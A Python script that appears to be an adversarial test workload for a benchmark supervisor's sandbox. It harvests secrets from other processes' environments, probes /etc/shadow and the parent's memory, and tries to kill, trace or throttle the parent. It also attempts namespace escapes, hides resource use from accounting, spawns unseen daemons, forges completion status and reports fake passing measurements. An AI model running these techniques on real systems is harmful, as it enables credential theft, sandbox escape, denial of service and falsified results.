#!/usr/bin/python3 -S
"""A PI that attacks what holds it. Its name (the workload) says how; what came of each attempt goes to stderr as one JSON
object, {attempt: result}, "refused: ..." where it was. Then it measures nothing, well."""

import ctypes
import fcntl
import json
import os
import socket
import sys
import threading
import time

LIBC = ctypes.CDLL(None, use_errno=True)
PARENT = os.getppid()
SYSCALLS = {"keyctl": 250, "io_uring_setup": 425, "bpf": 321, "perf_event_open": 298, "pidfd_open": 434, "pidfd_getfd": 438,
            "process_vm_readv": 310, "userfaultfd": 323, "kcmp": 312, "add_key": 248}  # x86-64
found = {}
told = {"samples_ns": [1000, 1001, 1002], "name": "evil"}  # what is said to be measured


def attempt(name, action):
    try:
        result = action()
        found[name] = "done" if result is None else result
    except OSError as error:
        found[name] = f"refused: {error.strerror}"
    except Exception as error:  # pylint: disable=broad-except
        found[name] = f"refused: {error!r}"


def call(number, *arguments):
    result = LIBC.syscall(number, *[ctypes.c_long(argument) for argument in arguments])
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return f"done: {result}"


def function(name, *arguments):
    ctypes.set_errno(0)
    result = getattr(LIBC, name)(*arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return f"done: {result}"


def write_to(path, text):
    with open(path, "r+" if os.path.exists(path) else "w") as file:
        file.write(text)
        file.flush()


def read_of(path):
    with open(path, "rb") as file:
        return "done: " + file.read(200).decode("latin1")


def everything_readable():
    """All that processes and our own environment tell, in which a secret might stand."""
    text = repr(dict(os.environ))
    for process in os.listdir("/proc"):
        for file in ("environ", "cmdline"):
            if process.isdigit():
                try:
                    with open(f"/proc/{process}/{file}", "rb") as stream:
                        text += stream.read().decode("latin1")
                except OSError:
                    pass
    return text


def look_around(options):
    secrets = [secret[::-1] for secret in options["secrets"].split("/")]  # backwards: our own arguments are no find
    text = everything_readable()
    found["secrets"] = [secret for secret in secrets if secret in text]
    stolen = " ".join(found["secrets"])
    told.update(parameters={"stolen": stolen, stolen: 1}, loaded={"x": stolen}, phases=[{"name": stolen, "start_ns": 1, "duration_ns": 1}],
                check={"reference": stolen, "pass": True, "max_relative_error": 0, "bound": 1})
    found["given"] = [secret for secret in secrets if secret in repr(dict(os.environ))]
    found["uid"] = os.getuid()
    for path in options["hidden"].split(":"):
        attempt(f"see {path}", lambda path=path: repr(os.stat(path)))
    attempt("shadow", lambda: read_of("/etc/shadow"))
    attempt("supervisor's environment", lambda: read_of(f"/proc/{PARENT}/environ"))
    attempt("supervisor's memory", lambda: open(f"/proc/{PARENT}/mem", "r+b").close())
    attempt("supervisor's descriptors", lambda: open(f"/proc/{PARENT}/fd/3", "w").close())
    attempt("network", lambda: socket.create_connection(("127.0.0.1", int(options["port"])), 3).close())


def take_over(_):
    attempt("sysctl", lambda: write_to("/proc/sys/vm/stat_interval", "1"))
    attempt("core_pattern", lambda: open("/proc/sys/kernel/core_pattern", "r+").close())
    attempt("usr", lambda: write_to("/usr/stackx-was-here", "x"))
    attempt("etc", lambda: write_to("/etc/stackx-was-here", "x"))
    attempt("root", lambda: write_to("/stackx-was-here", "x"))
    attempt("setuid", lambda: os.setuid(0) if os.getuid() else 1 / 0)
    attempt("ptrace", lambda: function("ptrace", 16, PARENT, 0, 0))
    attempt("prlimit", lambda: call(302, PARENT, 7, 0, 0))
    attempt("kill", lambda: os.kill(PARENT, 9))
    attempt("stop", lambda: os.kill(PARENT, 19))
    attempt("affinity", lambda: os.sched_setaffinity(PARENT, {0}))
    attempt("nice", lambda: os.setpriority(os.PRIO_PROCESS, PARENT, 19))
    attempt("user namespace", lambda: function("unshare", 0x10000000))
    attempt("clone into one", lambda: call(56, 0x10000000 | 17, 0, 0, 0, 0))
    attempt("mount", lambda: function("mount", b"none", b"/tmp", b"tmpfs", 0, 0))
    attempt("chroot", lambda: os.chroot("/tmp"))
    alias = PARENT | 1 << 32  # the same process: the kernel takes 32 bits
    attempt("prlimit by another number", lambda: call(302, alias, 7, 0, 0))
    attempt("affinity by another number", lambda: call(203, alias, 8, ctypes.addressof(ctypes.c_ulong(1))))
    attempt("nice by another number", lambda: call(141, 0, alias, 19))
    attempt("kill by another number", lambda: call(62, alias, 0))
    attempt("nice its group", lambda: os.setpriority(os.PRIO_PGRP, os.getpgid(PARENT), 19))
    attempt("kill its group", lambda: os.kill(-os.getpgid(PARENT), 0))
    attempt("kill everybody", lambda: os.kill(-1, 0))
    attempt("signal its directory", lambda: call(424, os.open(f"/proc/{PARENT}", os.O_DIRECTORY), 0, 0, 0))
    attempt("own a socket", lambda: fcntl.fcntl(socket.socketpair()[0], fcntl.F_SETOWN, PARENT))
    attempt("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close())
    attempt("alg", lambda: socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET).close())
    for name, number in SYSCALLS.items():
        attempt(name, lambda number=number: call(number, PARENT, 0, 0, 0, 0))
    for descriptor in (3, 4):
        attempt(f"descriptor {descriptor}", lambda descriptor=descriptor: os.write(descriptor, b"end=0\nstatus=0\ncomplete=1\n"))


def use_devices():
    """What any program may ask of /dev."""
    attempt("null", lambda: write_to("/dev/null", "x"))
    attempt("zero", lambda: read_of("/dev/zero")[:4])
    attempt("urandom", lambda: read_of("/dev/urandom")[:4])
    attempt("terminal", lambda: [os.close(end) for end in os.openpty()] and None)
    mine = f"/dev/shm/mine-{os.getpid()}"
    attempt("shm", lambda: (write_to(mine, "x"), os.remove(mine)) and None)
    attempt("fd", lambda: os.listdir("/dev/fd/") and None)


def hold(make, bytes_wanted):
    """Memory that no process maps."""
    held, part = [], 64 << 20
    zeros = bytes(1 << 20)
    while len(held) * part < bytes_wanted:
        descriptor = make(len(held))
        held.append(descriptor)
        for _ in range(part >> 20):
            os.write(descriptor, zeros)
    hold_until_seen(len(held) * part)


def hold_until_seen(held):
    """Whoever looks now and then has seen it by then, on a machine that does much else, too."""
    time.sleep(15)
    found["held"] = held
    report()
    time.sleep(30)


def semaphores(bytes_wanted):
    """System V's, of which the kernel keeps 64 bytes each."""
    each = 32000
    sets = bytes_wanted // (each * 64)
    for _ in range(sets):
        function("semget", 0, each, 0o1600)
    hold_until_seen(sets * each * 64)


def messages(queues):
    """System V's, which nobody receives."""
    text = ctypes.create_string_buffer(b"\x01".ljust(8, b"\0") + bytes(8000))
    for _ in range(queues):
        queue = int(function("msgget", 0, 0o1600).split()[1])
        for _ in range(2):
            function("msgsnd", queue, text, 8000, 0o4000)
    hold_until_seen(queues * 16000)


def empty_files(place, count):
    for number in range(count):
        os.close(os.open(f"{place}/{number:0200}", os.O_CREAT | os.O_WRONLY))
    hold_until_seen(count)


def page_tables(bytes_wanted):
    """Pages of zeros that no process is charged for; each at its own end of a table of 4 KiB."""
    reach = 2 << 20
    LIBC.mmap.restype = ctypes.c_void_p
    size = bytes_wanted // 4096 * reach
    place = LIBC.mmap(None, ctypes.c_size_t(size), 1, 0x2 | 0x20 | 0x4000, -1, ctypes.c_long(0))
    for at in range(0, size, reach):
        ctypes.c_char.from_address(place + at).value  # pylint: disable=expression-not-assigned


def page_tables_of_several(bytes_wanted, processes=8):
    """Each of which maps less than is worth a look alone. They hold it once the last of them is done, however slow the machine."""
    done, tell = os.pipe()
    for _ in range(processes):
        if os.fork() == 0:
            page_tables(bytes_wanted // processes)
            os.write(tell, b".")
            time.sleep(100)
    for _ in range(processes):
        os.read(done, 1)
    hold_until_seen(bytes_wanted)


def behind_an_end(then):
    """A process whose first thread has ended is a zombie to who looks at /proc/PID/stat; another goes on."""
    def go_on():
        time.sleep(0.2)
        then()
        os._exit(0)
    threading.Thread(target=go_on).start()
    LIBC.syscall(60, 0)  # exit(2): this thread alone


def pages_behind_an_end(bytes_wanted):
    def fill():
        held = bytearray(b"x") * bytes_wanted
        hold_until_seen(len(held))
    if os.fork() == 0:
        behind_an_end(fill)
    time.sleep(100)


def outlive(mark):
    """A daemon that nobody sees, and then past the limit of time itself."""
    def tick():
        for file in (1, 2):
            os.dup2(os.open("/dev/null", os.O_WRONLY), file)
        while True:
            with open(mark, "a") as stream:
                stream.write(f"{time.time()}\n")
            time.sleep(0.1)
    if os.fork() == 0:
        behind_an_end(tick)
    while not os.path.exists(mark):
        time.sleep(0.1)


def orphans_without_end(_):
    """Children of the supervisor's own that end at once: who reaps them to the last looks at nothing else.

    It ends by itself, as nothing else might."""
    until = time.monotonic() + 30

    def breed():
        while time.monotonic() < until:
            LIBC.syscall(56, 0x8000 | 17, 0, 0, 0, 0) or LIBC.syscall(231, 0)  # CLONE_PARENT | SIGCHLD; exit_group
    for _ in range(8):
        if os.fork() == 0:
            breed()
            os._exit(0)
    time.sleep(30)


def capabilities(_):
    with open("/proc/self/status") as status:
        found["effective"] = [line.split()[1] for line in status if line.startswith("CapEff")][0]


def wishes_of_an_image(_):
    """Its user's capabilities, and its volume."""
    with open("/proc/self/status") as status:
        found["capabilities"] = {line.split()[0]: line.split()[1] for line in status if line.startswith(("CapI", "CapP", "CapE", "CapA"))}
    attempt("setuid", lambda: os.setuid(0) if os.getuid() else 1 / 0)
    attempt("supervisor's memory", lambda: open(f"/proc/{PARENT}/mem", "r+b").close())
    attempt("volume", lambda: write_to("/var/tmp/stackx-was-here", "x"))


def threads(count):
    started = 0
    gate = threading.Event()
    threading.stack_size(1 << 16)
    try:
        for _ in range(count):
            threading.Thread(target=gate.wait, daemon=True).start()
            started += 1
    except RuntimeError as error:
        found["refused"] = str(error)
    found["threads"] = started
    report()
    time.sleep(3)


def report():
    sys.stderr.write(json.dumps(found) + "\n")
    sys.stderr.flush()


def main():
    name = sys.argv[1]
    options = dict(word.split("=", 1) for word in sys.argv[2:] if "=" in word and not word.startswith("-"))
    gibibyte = 1 << 30
    if name == "look_around":
        look_around(options)
    elif name == "take_over":
        take_over(options)
    elif name == "devices":
        use_devices()
    elif name == "memfd":
        hold(lambda i: os.memfd_create(f"held{i}"), 2 * gibibyte)
    elif name == "tmp":
        hold(lambda i: os.open(f"/tmp/held{i}", os.O_CREAT | os.O_RDWR), 2 * gibibyte)
    elif name == "dev":
        hold(lambda i: os.open(f"/dev/held{i}", os.O_CREAT | os.O_RDWR), 2 * gibibyte)
    elif name == "files":
        empty_files("/tmp", 600_000)
    elif name == "sem":
        semaphores(2 * gibibyte)
    elif name == "msg":
        messages(20_000)
    elif name == "page_tables":
        page_tables(2 * gibibyte)
        hold_until_seen(2 * gibibyte)
    elif name == "several_page_tables":
        page_tables_of_several(2 * gibibyte)
    elif name == "behind_an_end":
        pages_behind_an_end(gibibyte)
    elif name == "past_the_end":
        behind_an_end(lambda: time.sleep(600))
    elif name == "outlive":
        outlive(options["mark"])
    elif name == "orphans":
        orphans_without_end(options)
    elif name == "capabilities":
        capabilities(options)
    elif name == "wishes":
        wishes_of_an_image(options)
    elif name == "threads":
        threads(4000)
    report()
    sys.stdout.write(json.dumps(told) + "\n")


main()
